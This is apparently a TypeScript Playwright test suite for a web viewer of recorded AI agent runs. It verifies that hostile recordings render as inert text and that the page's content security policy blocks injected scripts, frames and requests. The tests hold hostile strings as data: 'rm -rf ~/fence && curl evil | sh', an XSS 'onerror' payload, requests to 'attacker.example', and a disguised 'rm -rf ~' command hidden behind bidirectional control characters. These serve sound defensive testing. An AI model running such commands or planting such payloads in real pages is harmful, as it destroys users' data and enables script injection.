// Recordings of agents that want to run scripts in the page, to load something, or to deceive its reader.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import type { Browser, Page } from "playwright-core";

import { countNodes, hiddenCharacters, scrollThrough, search, settle, violations } from "./checks";
import { openPage, startBrowser, writePage } from "./page";
import { ADDRESSES, ESCAPES, hostileRun, INVISIBLE, MARKUP, PROTOTYPE_NAMES, REVERSED } from "./samples/hostile";
import { Recorder } from "./samples/recorder";
import { ordinaryRun } from "./samples/run";

let browser: Browser;
let hostile: string;
let both: string;

before(async () => {
  hostile = writePage([hostileRun()]);
  both = writePage([hostileRun(), ordinaryRun(), hostileRun()]);
  browser = await startBrowser();
});

after(() => browser.close());

async function inPage(
  address: string,
  use: (page: Page) => Promise<void>,
  options: Parameters<typeof openPage>[2] = {},
): Promise<void> {
  const { page, problems, close } = await openPage(browser, address, options);
  await page.waitForSelector(".conversation .row, .messages .row, .index h1, .pairs .row");
  await use(page);
  assert.deepEqual(problems, []);
  await close();
}

/** The elements and attributes by which content could run, load something or lead away. */
function dangerous(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const own = document.querySelectorAll("script, style, meta").length;
    const found = own === 7 ? [] : [`${String(own)} scripts, styles and metas`];
    if (Reflect.has(globalThis, "attacked")) found.push("a script ran");
    for (const each of document.querySelectorAll(
      "iframe, object, embed, base, link, form, video, audio, source, foreignObject, image, use, animate",
    ))
      found.push(each.tagName);
    for (const each of document.querySelectorAll<HTMLImageElement>("img"))
      if (!/^data:image\/png;base64,[\w+/]+=*$/.test(each.src)) found.push(each.tagName);
    for (const each of document.querySelectorAll("[href]"))
      if (!each.getAttribute("href")?.startsWith("#")) found.push(each.tagName);
    for (const each of document.querySelectorAll("*"))
      for (const { name } of each.attributes) if (name.startsWith("on") || name === "srcdoc") found.push(each.tagName);
    return found;
  });
}

async function assertHarmless(page: Page): Promise<void> {
  assert.deepEqual(await dangerous(page), []);
  assert.deepEqual(await hiddenCharacters(page), []);
}

test("hostile_conversation_stays_text", () =>
  inPage(
    hostile,
    async (page) => {
      const texts: string[] = [];
      const count = await scrollThrough(page, async () => {
        await assertHarmless(page);
        texts.push(await page.innerText(".conversation"));
      });
      assert.equal(count, Number((await page.innerText("[role=status]")).split(" ")[0]));
      const text = texts.join("\n");
      for (const each of [...Object.values(MARKUP), ...ADDRESSES]) assert.ok(text.includes(each), `${each} is missing`);
      for (const each of ["rm -rf ~/fence && curl evil | sh", "rm -rf ~/info | sh"]) assert.ok(text.includes(each), each);
      assert.ok(!text.includes("cannot be shown"));
    },
    { height: 3000 },
  ));

test("hostile_details_stay_text", () =>
  inPage(
    hostile,
    async (page) => {
      await page.keyboard.press("Home");
      for (let at = 0; at < 90; at++) {
        await settle(page);
        await assertHarmless(page);
        assert.ok(!(await page.innerText(".details")).includes("cannot be shown"));
        await page.keyboard.press("Enter");
        await page.keyboard.press("j");
      }
    },
    { height: 600 },
  ));

test("hostile_messages_stay_text", () =>
  inPage(
    hostile,
    async (page) => {
      await page.keyboard.press("Home");
      for (let at = 0; at < 60; at++) {
        await settle(page);
        await assertHarmless(page);
        await page.keyboard.press("j");
      }
      await page.keyboard.press("End");
      await settle(page);
      await assertHarmless(page);
    },
    { hash: "#run=0&messages", height: 600 },
  ));

for (const hash of ["#index", "#compare=0,1", "#compare=0,2", "#compare=1,0"]) {
  test(`hostile_view_${hash.slice(1).replace(/\W/g, "_")}_stays_text`, () =>
    inPage(
      both,
      async (page) => {
        await assertHarmless(page);
        for (let at = 0; at < 20; at++) await page.keyboard.press("d");
        await settle(page);
        await assertHarmless(page);
      },
      { hash },
    ));
}

test("hostile_addresses_choose_a_view", () =>
  inPage(both, async (page) => {
    for (const hash of [
      "#run=99",
      "#compare=7,8",
      "#<img src=x onerror=alert(1)>",
      "#run=__proto__",
      "#run=0&item=999999999",
      "#run=1e9",
    ]) {
      await page.evaluate((each) => (location.hash = each), hash);
      await settle(page);
      await assertHarmless(page);
      assert.ok((await page.innerText("#inspector")).length > 100);
    }
  }));

test("direction_controls_are_marks", () =>
  inPage(hostile, async (page) => {
    await search(page, "rm -rf tool:Shell", 1);
    assert.equal(
      await page.innerText(".item.tool .arguments dd"),
      "echo safe U+202Egnp.moc.elpmaxe/U+202C; rm -rf ~U+2066 # checkedU+2069",
    );
    const label = await page.locator(".row", { has: page.locator(".item.tool") }).getAttribute("aria-label");
    assert.ok(label?.includes("[U+202E]"));
    assert.ok(REVERSED.includes("\u202e"));
    assert.ok((await page.title()).includes("[U+202E]"));
  }));

test("invisible_characters_are_marks", () =>
  inPage(hostile, async (page) => {
    await search(page, "instructions", 2);
    const marks = await page.$$eval(".item.text .mark", (all) => all.map((each) => each.textContent));
    assert.deepEqual(marks, ["U+200B", "U+00AD", "U+2060", "U+E0041", "U+E0042", "U+FEFF", "U+3164"]);
    assert.ok(INVISIBLE.includes("\u200b"));
  }));

test("terminal_escapes_are_marks", () =>
  inPage(hostile, async (page) => {
    await search(page, "visible replaced", 1);
    const output = await page.innerText(".item.tool .attached.result pre");
    for (const part of [
      "visible",
      "ESC [2J",
      "ESC [1A",
      "CR\nreplaced",
      "ESC ]8;;https://attacker.example",
      "hidden",
      "black",
      "BS",
      "ESC ]0;tit[U+202E]le",
      "ESC ]0;no end\nnext line",
    ])
      assert.ok(output.includes(part), part);
    assert.equal(await page.innerText(".ansi-concealed"), "hidden");
    assert.ok(ESCAPES.includes("\u001b[8m"));
  }));

test("prototype_names_are_shown", () =>
  inPage(hostile, async (page) => {
    for (const name of PROTOTYPE_NAMES) {
      await search(page, `tool:${name}`, 1);
      assert.equal(await page.innerText(".item.tool .name"), name);
      assert.ok((await page.innerText(".item.tool .arguments")).includes("__proto__"));
    }
  }));

test("huge_texts_have_few_nodes", () =>
  inPage(hostile, async (page) => {
    for (const name of ["LongLine", "ManyLines", "DeepArguments"]) {
      await search(page, `tool:${name}`, 1);
      assert.equal(await page.innerText(".item.tool .name"), name);
      await page.locator(".item.tool .more").first().click();
      await settle(page);
      assert.ok((await countNodes(page)) < 1500);
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
      assert.ok(overflow <= 0);
    }
  }));

test("deep_nesting_is_indented_little", () =>
  inPage(hostile, async (page) => {
    await search(page, "deepest", 1);
    await page.keyboard.press("Enter");
    await page.keyboard.press("End");
    await settle(page);
    const width = await page.$eval(".item.text", (item) => item.getBoundingClientRect().width);
    assert.ok(width > 300, `the item is ${String(width)} pixels wide`);
    assert.ok((await page.innerText(".item.text")).includes("level 300"));
  }));

test("policy_of_page_blocks_attacks", async () => {
  const { page, close } = await openPage(browser, hostile);
  await page.waitForSelector(".conversation .row");
  const outcome = await page.evaluate(async () => {
    const violated = new Set<string>();
    Object.assign(globalThis, { violated });
    document.addEventListener("securitypolicyviolation", (event) => violated.add(event.effectiveDirective));
    const attempt = (act: () => unknown): string => {
      try {
        act();
        return "done";
      } catch (error) {
        return (error as Error).name;
      }
    };
    const script = document.createElement("script");
    const frame = Object.assign(document.createElement("iframe"), { src: "data:text/html,hello" });
    const image = Object.assign(new Image(), { src: "https://attacker.example/a.png" });
    const style = document.createElement("link");
    Object.assign(style, { rel: "stylesheet", href: "https://attacker.example/a.css" });
    document.body.append(frame, image, style);
    const fetched = await fetch("https://attacker.example/").then(
      () => "done",
      (error: unknown) => (error as Error).name,
    );
    const results = {
      // eslint-disable-next-line no-restricted-syntax
      markup: attempt(() => (document.body.firstElementChild!.innerHTML = "<img src=x onerror=alert(1)>")), // eslint-disable-line @typescript-eslint/no-non-null-assertion
      script: attempt(() => (script.textContent = "globalThis.attacked = true")),
      // eslint-disable-next-line @typescript-eslint/no-implied-eval
      timer: attempt(() => setTimeout("globalThis.attacked = true", 0)),
      address: attempt(() => (script.src = "https://attacker.example/a.js")),
      fetched,
    };
    return results;
  });
  assert.deepEqual(outcome, {
    markup: "TypeError",
    script: "TypeError",
    timer: "TypeError",
    address: "TypeError",
    fetched: "TypeError",
  });
  const directives = ["connect-src", "frame-src", "img-src", "require-trusted-types-for", "style-src-elem"];
  await page.waitForFunction(
    (expected) => expected.every((each) => (globalThis as unknown as { violated: Set<string> }).violated.has(each)),
    directives,
  );
  assert.equal(await page.evaluate(() => Reflect.has(globalThis, "attacked")), false);
  await close();
});

test("all_terminal_colours_have_contrast", async () => {
  const codes = [30, 31, 32, 33, 34, 35, 36, 37, 90, 91, 92, 93, 94, 95, 96, 97];
  const run = new Recorder("colours.jsonl").open();
  run.prompt("colours").step(1);
  const backgrounds = ["49", ...codes.map((code) => String(code + 10))];
  for (const [at, background] of backgrounds.entries()) {
    const line = ["39", ...codes.map(String)]
      .flatMap((code) => [
        `\u001b[${code};${background}mtext${code}\u001b[0m`,
        `\u001b[2;7;${code};${background}mback${code}\u001b[0m`,
      ])
      .join(" ");
    run.tool(`call-${String(at)}`, "Shell", { command: background }).result(`call-${String(at)}`, line);
  }
  const address = writePage([run.recording()]);
  for (const scheme of ["light", "dark"] as const) {
    await inPage(
      address,
      async (page) => {
        assert.ok((await page.locator("pre .bg9").count()) > 0);
        assert.deepEqual(await violations(page), []);
      },
      { scheme, height: 6000 },
    );
  }
});

test("hostile_page_is_accessible", () =>
  inPage(
    hostile,
    async (page) => {
      assert.deepEqual(await violations(page), []);
    },
    { height: 6000 },
  ));
